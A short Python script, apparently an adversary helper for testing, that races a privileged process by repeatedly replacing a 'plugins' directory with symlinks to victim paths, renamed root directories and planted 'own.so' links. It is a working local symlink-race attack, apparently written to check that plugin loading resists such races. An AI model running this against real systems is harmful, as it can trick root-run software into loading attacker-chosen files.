#!/usr/bin/python3
# SPDX-License-Identifier: LGPL-2.1-or-later
"""What somebody does who owns the directory above the links directory: he puts other things in its
place, at full speed, until he is killed. Runs as an ordinary user.

    hostile.py DIRECTORY VICTIM...

DIRECTORY is his (/etc/vsmtp), and holds `plugins`; a VICTIM is a path outside to make a symlink to.
`private` in DIRECTORY is a directory of root's that he may rename, and not change."""

import itertools
import os
import sys


def attempt(action, *names):
    try:
        action(*names)
    except OSError:
        pass


def main():
    directory, *victims = sys.argv[1:]
    os.chdir(directory)
    names = ["plugins", "services"]
    for round in itertools.count():
        name = names[round % 5 == 4]
        victim = victims[round % len(victims)]
        attempt(os.rename, name, "aside")
        if round % 3 == 0:
            attempt(os.symlink, victim, name)
        elif round % 3 == 1:
            attempt(os.rename, "private", name)
        else:
            attempt(os.mkdir, name)
            attempt(os.symlink, victim, f"{name}/own.so")
        for _ in range(round % 7 * 50):
            os.getppid()  # no sleep: that would be long beside a system call
        if round % 3 == 1:
            attempt(os.rename, name, "private")
        attempt(os.unlink, name)
        attempt(os.unlink, f"{name}/own.so")
        attempt(os.rmdir, name)
        if round % 4:
            attempt(os.rename, "aside", name)  # else whoever looks makes a new one
        else:
            attempt(os.rename, "aside", f"old-{round % 64}")
            attempt(os.rmdir, f"old-{round % 64}")


main()
